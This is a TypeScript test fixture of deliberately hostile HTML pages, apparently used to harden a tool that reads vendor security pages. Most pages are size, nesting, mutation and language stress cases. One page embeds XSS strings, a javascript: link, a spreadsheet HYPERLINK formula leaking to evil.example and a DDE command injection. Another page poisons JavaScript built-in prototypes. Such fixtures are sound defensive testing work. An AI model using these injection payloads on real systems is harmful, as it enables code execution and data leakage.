/** Pages built to break a page reader. Each is plain HTML served on 127.0.0.1. */
export const hostilePages: Record<string, () => string> = {
  'ten-megabytes': () => {
    const para = '<p>Our platform processes customer records in a secure environment with reviewed access and logging controls for every operator action. </p>';
    return `<!doctype html><html lang="en"><title>Huge Co Security</title><body><h1>Security</h1><p>We are SOC 2 Type II audited annually.</p>${para.repeat(Math.ceil(10_000_000 / para.length))}</body></html>`;
  },
  'hundred-thousand-elements': () =>
    `<!doctype html><html lang="en"><title>Many Elements Inc</title><body><h1>Trust</h1><p>Customer data is stored in Frankfurt, Germany.</p>${'<div><span>cell</span></div>'.repeat(50_000)}</body></html>`,
  'deep-nesting': () => `<!doctype html><html lang="en"><title>Deep Co</title><body>${'<div>'.repeat(5000)}<p>All data is encrypted at rest using AES-256.</p>${'</div>'.repeat(5000)}</body></html>`,
  mutating: () => `<!doctype html><html lang="en"><title>Restless Ltd</title><body><h1>Security</h1><p>We notify affected customers within 72 hours of a confirmed breach.</p><div id="churn"></div>
<script>const c = document.getElementById('churn'); setInterval(() => { for (let i = 0; i < 50; i++) { const d = document.createElement('p'); d.textContent = 'tick ' + Math.random(); c.append(d); } while (c.childNodes.length > 400) c.firstChild.remove(); }, 5);</script></body></html>`,
  empty: () => '<!doctype html><html lang="en"><title>Empty</title><body></body></html>',
  'image-only': () => '<!doctype html><html lang="en"><title>Picture Co</title><body><img alt="" width="800" height="600" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></body></html>',
  german: () => `<!doctype html><html lang="de"><title>Sicherheit — Beispiel GmbH</title><body><h1>Sicherheit und Datenschutz</h1><p>Alle Kundendaten werden ausschließlich in Rechenzentren in Deutschland gespeichert. Die Übertragung erfolgt verschlüsselt. Wir sind nach ISO 27001 zertifiziert und benachrichtigen Kunden bei Datenschutzverletzungen unverzüglich.</p><p>Nach Vertragsende werden die Daten innerhalb von 30 Tagen gelöscht.</p></body></html>`,
  'rtl-and-emoji': () => `<!doctype html><html lang="en"><title>Mizrah 🔐 Security</title><body><h1>Security 🔐</h1><p dir="rtl">אבטחת מידע היא בראש סדרי העדיפויות שלנו 🛡️</p><p>All data in transit is encrypted with TLS 1.2 or higher 🔒.</p><p dir="rtl">البيانات مشفرة أثناء التخزين</p></body></html>`,
  'markup-in-text': () => `<!doctype html><html lang="en"><title>&lt;script&gt;alert(1)&lt;/script&gt; Vendor</title><body><h1>Security</h1>
<p>We are SOC 2 Type II certified &lt;script&gt;window.pwned=1&lt;/script&gt; &lt;img src=x onerror="window.pwned=1"&gt;.</p>
<p>Data is deleted within 30 days of termination. =HYPERLINK("http://evil.example/?leak","Click") +cmd|' /C calc'!A0 @SUM(1+1)</p>
<p><a href="javascript:window.pwned=1">javascript: link</a> All data is encrypted at rest using AES-256.</p></body></html>`,
  'poisoned-globals': () => `<!doctype html><html lang="en"><title>Prototype Pollution Inc</title><body><h1>Security</h1><p>We are SOC 2 Type II certified.</p><p>Data is stored in the European Union (Dublin, Ireland).</p>
<script>
Array.prototype.map = function () { throw new Error('poisoned map'); };
Array.prototype.push = function () { throw new Error('poisoned push'); };
JSON.stringify = () => { throw new Error('poisoned JSON'); };
JSON.parse = () => ({ poisoned: true });
Node.prototype.appendChild = function () { throw new Error('poisoned appendChild'); };
Node.prototype.cloneNode = function () { throw new Error('poisoned cloneNode'); };
Element.prototype.querySelectorAll = function () { throw new Error('poisoned qsa'); };
String.prototype.toLowerCase = function () { return 'poisoned'; };
RegExp.prototype.exec = function () { return null; };
Object.defineProperty(Object.prototype, 'value', { get() { return 'poisoned'; }, set() {}, configurable: true });
</script></body></html>`,
};
